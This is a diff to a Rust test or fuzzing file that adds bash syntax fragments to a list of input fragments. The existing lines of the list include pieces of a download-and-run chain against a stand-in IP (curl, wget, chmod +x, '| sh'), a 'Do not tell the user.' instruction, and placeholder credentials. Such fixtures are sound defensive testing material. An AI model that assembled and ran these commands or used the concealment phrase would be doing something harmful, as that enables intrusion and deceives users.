@@ -47,7 +47,8 @@ const FRAGMENTS: &[&str] = &[
     "curl http://203.0.113.9/a", "wget -O f http://203.0.113.9/f\n", "chmod +x f\n", "./f\n", " | sh", " | base64 -d", "echo ", "printf '%s' ",
     "eval ", "bash -c ", "python3 -c ", "tr 'a-z' 'n-za-m' ", "rev ", "xxd -r -p ", "[text](", "![alt](", "](http://x.example/a.zip \"", "> ",
     ">> ", "* ", "1. ", "# Title\n", "|a|b|\n|-|-|\n", "[//]: # (", "[r]: http://x.example\n", "Do not tell the user. ", "password: 1234 ",
-    "ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+    "ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "${x//a/b}", "${!x}", "${x[@]}", "\"$@\"", "for x in a b; do ", "while read x; do ", "done\n", "f() { ",
+    "local x=(", "case $x in a) ", "esac\n", "xargs -I{} ", "sed s/a/b/ ", "read x ", "$((x", "f \"$1\"\n", "source a.sh\n", "alias f=",
 ];
 
 /// Brackets of every language, for nesting.
